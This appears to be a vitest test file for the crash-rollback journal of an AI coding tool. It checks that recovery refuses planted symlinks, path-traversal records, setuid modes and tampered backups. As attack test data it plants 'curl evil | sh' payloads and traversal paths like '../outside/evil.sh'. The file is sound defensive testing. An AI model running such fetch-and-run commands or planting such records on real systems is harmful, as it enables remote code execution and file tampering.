/**
 * Attacks on crash rollback: between the crash and the next start, anything may have
 * changed. A symlink planted where a half-made change was, pointing at a file outside the
 * workspace, must not be written through or chmod-ed; hand-made lines in `changes.jsonl`
 * that would delete an outside folder or put an executable outside are reported and
 * skipped, never followed.
 */
import fs from 'node:fs';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { crashNotice } from '../../src/journal/crashNotice.js';
import { hashBytes } from '../../src/journal/snapshot.js';
import { finishCrashRecord } from '../../src/journal/recover.js';
import { withJournal } from '../../src/journal/wrap.js';
import { createFileTools } from '../../src/tools/files/index.js';
import type { Tool } from '../../src/tools/types.js';
import { journalFixture, type JournalFixture } from './fixture.js';

let fx: JournalFixture;
afterEach(() => fx.cleanup());

const noHistory = { messages: () => [], append: () => ({ ok: true as const }) };

/** A real tool that makes its change and never returns, as if the process died right after. */
async function crashAfter(name: string, args: string[]): Promise<void> {
  const real = createFileTools().find((t) => t.name === name)!;
  let made!: () => void;
  const done = new Promise<void>((resolve) => (made = resolve));
  const tool: Tool = {
    ...real,
    run: async (a, ctx) => (await real.run(a, ctx), made(), new Promise(() => {})),
  };
  const [wrapped] = withJournal([tool], () => fx.journal);
  void wrapped!.run(args, { workspace: fx.workspace, signal: new AbortController().signal });
  await done;
}

/** A file outside the workspace, mode 0600, that nothing may touch. */
function outsideFile(name: string): { file: string; dir: string } {
  const dir = path.join(path.dirname(fx.ws), 'outside');
  fs.mkdirSync(dir, { recursive: true });
  const file = path.join(dir, name);
  fs.writeFileSync(file, 'outside, untouched\n');
  fs.chmodSync(file, 0o600);
  return { file, dir };
}

function expectUntouched(file: string): void {
  expect(fs.readFileSync(file, 'utf8')).toBe('outside, untouched\n');
  expect(fs.statSync(file).mode & 0o777).toBe(0o600);
}

describe('crash rollback with a symlink planted after the crash', () => {
  it('leaves a link planted at the file itself: its target is not written or chmod-ed', async () => {
    fx = await journalFixture((ws) => {
      fs.writeFileSync(path.join(ws, 'run.sh'), '#!/bin/sh\necho old\n', { mode: 0o755 });
      fs.chmodSync(path.join(ws, 'run.sh'), 0o755);
    });
    const { file } = outsideFile('target.sh');
    await crashAfter('edit', ['run.sh', 'old', 'new']);
    fs.rmSync(path.join(fx.ws, 'run.sh'));
    fs.symlinkSync(file, path.join(fx.ws, 'run.sh'));
    const report = await finishCrashRecord(noHistory, fx.reopen(), fx.workspace);
    expectUntouched(file);
    // Resolved for write like a tool's write: the link leads outside, so it is refused.
    expect(fs.lstatSync(path.join(fx.ws, 'run.sh')).isSymbolicLink()).toBe(true);
    expect(report.refused?.join('\n')).toMatch(/"run\.sh" is outside the workspace/);
  });

  it('refuses a folder on the path swapped for a link to outside, and says so', async () => {
    fx = await journalFixture((ws) => {
      fs.mkdirSync(path.join(ws, 'bin'));
      fs.writeFileSync(path.join(ws, 'bin', 'run.sh'), 'echo old\n', { mode: 0o755 });
      fs.chmodSync(path.join(ws, 'bin', 'run.sh'), 0o755);
    });
    const { file, dir } = outsideFile('run.sh');
    await crashAfter('edit', ['bin/run.sh', 'old', 'new']);
    fs.renameSync(path.join(fx.ws, 'bin'), path.join(fx.ws, 'bin-kept'));
    fs.symlinkSync(dir, path.join(fx.ws, 'bin'));
    const report = await finishCrashRecord(noHistory, fx.reopen(), fx.workspace);
    expectUntouched(file);
    expect(fs.readdirSync(dir)).toEqual(['run.sh']);
    expect(report.refused?.join('\n')).toMatch(/bin\/run\.sh.*outside the workspace/);
    expect(crashNotice(report)).toMatch(/did not act on/);
  });
});

describe('hand-made records in changes.jsonl', () => {
  it('are reported and skipped: no outside folder deleted, no executable made outside', async () => {
    fx = await journalFixture((ws) => fs.mkdirSync(path.join(ws, 'proj')));
    const { file, dir } = outsideFile('precious.txt');
    fs.symlinkSync(dir, path.join(fx.ws, 'proj', 'out'));
    // A blob the attacker put in the backup store: the executable they want placed.
    const payload = Buffer.from('#!/bin/sh\ncurl evil | sh\n');
    const hash = hashBytes(payload);
    fs.mkdirSync(path.join(fx.journal.blobs.dir, hash.slice(0, 2)), { recursive: true });
    fs.writeFileSync(path.join(fx.journal.blobs.dir, hash.slice(0, 2), hash), payload);
    const exe = { '': { k: 'f', h: hash, m: 0o755, s: payload.length } };
    const begin = (id: string, op: string, p: string, before: object, extra = {}): string =>
      JSON.stringify({
        t: 'begin',
        e: {
          id,
          at: Date.now(),
          turn: 'r',
          trigger: 'timer',
          tool: op,
          op,
          call: `${op}()`,
          paths: [{ path: p, before, backup: true }],
          made: [],
          ...extra,
        },
      });
    const lines = [
      begin('a', 'copy', '../outside', {}), // rollback of a copy removes its destination
      begin('b', 'write', '../outside/evil.sh', exe),
      begin('c', 'write', path.join(path.dirname(fx.ws), 'outside', 'abs.sh'), exe),
      begin('d', 'write', 'proj/out/evil.sh', exe), // valid shape, but through a link to outside
      begin('e', 'copy', 'proj/out', {}), // resolved like a tool's write: leads outside
      begin('f', 'mkdir', 'x', {}, { made: ['../outside'] }),
      begin('g', 'chmod', 'proj', {}),
      begin('h', 'write', 'proj/ok.sh', { '': { ...exe[''], m: 0o4755 } }),
      '{"t":"begin","e":"not a change"}',
      'this line is torn',
      JSON.stringify({ t: 'done', id: 'zz', after: {}, made: [] }),
    ];
    fs.mkdirSync(path.dirname(fx.journal.file), { recursive: true });
    fs.appendFileSync(fx.journal.file, `${lines.join('\n')}\n`);
    const report = await finishCrashRecord(noHistory, fx.reopen(), fx.workspace);
    expectUntouched(file);
    expect(fs.readdirSync(dir)).toEqual(['precious.txt']);
    const refused = report.refused!.join('\n');
    for (const line of [1, 2, 3, 6, 7, 9, 10, 11]) {
      expect(refused).toMatch(new RegExp(`changes\\.jsonl line ${line}: .+; skipped`));
    }
    expect(refused).toMatch(/line 1: the path "\.\.\/outside" is not a plain relative path/);
    expect(refused).toMatch(/line 7: the operation "chmod" is unknown/);
    expect(refused).toMatch(/change d .*outside the workspace/);
    expect(refused).toMatch(/change e .*"proj\/out" is outside the workspace/);
    // What passed the checks and stays inside was rolled back; setuid is never restored.
    expect(fs.statSync(path.join(fx.ws, 'proj', 'ok.sh')).mode & 0o7777).toBe(0o755);
    expect(crashNotice(report)).toMatch(/line 2: .*skipped/);
  });

  it('a backup swapped in the store since it was stored is not restored', async () => {
    fx = await journalFixture((ws) => fs.writeFileSync(path.join(ws, 'tool.sh'), 'echo 1\n'));
    await crashAfter('edit', ['tool.sh', 'echo 1', 'echo 2']);
    const entry = fx.journal.entries().at(-1)!;
    const node = entry.paths[0]!.before['']!;
    if (node.k !== 'f') throw new Error('expected a file backup');
    fs.writeFileSync(fx.journal.blobs.pathOf(node.h), 'curl evil | sh\n');
    const report = await finishCrashRecord(noHistory, fx.reopen(), fx.workspace);
    expect(fs.readFileSync(path.join(fx.ws, 'tool.sh'), 'utf8')).toBe('echo 2\n');
    expect(report.refused?.join('\n')).toMatch(/backup of "tool\.sh" no longer matches its hash/);
  });
});

describe('crash rollback and the temporary files of an atomic write', () => {
  it("removes the checked writer's leftover, never a user's file that only looks numbered", async () => {
    fx = await journalFixture((ws) => fs.writeFileSync(path.join(ws, 'notes.md'), 'old\n'));
    await crashAfter('edit', ['notes.md', 'old', 'new']);
    // What a kill inside the write leaves, and a file of the user's made in the same second.
    const leftover = path.join(fx.ws, '.notes.md.0a1b2c.cogito-tmp');
    fs.writeFileSync(leftover, 'half');
    fs.writeFileSync(path.join(fx.ws, 'notes.md.1'), 'a numbered copy of mine\n');
    await finishCrashRecord(noHistory, fx.reopen(), fx.workspace);
    expect(fs.readFileSync(path.join(fx.ws, 'notes.md'), 'utf8')).toBe('old\n');
    expect(fs.existsSync(leftover)).toBe(false);
    expect(fs.readFileSync(path.join(fx.ws, 'notes.md.1'), 'utf8')).toBe(
      'a numbered copy of mine\n',
    );
  });
});
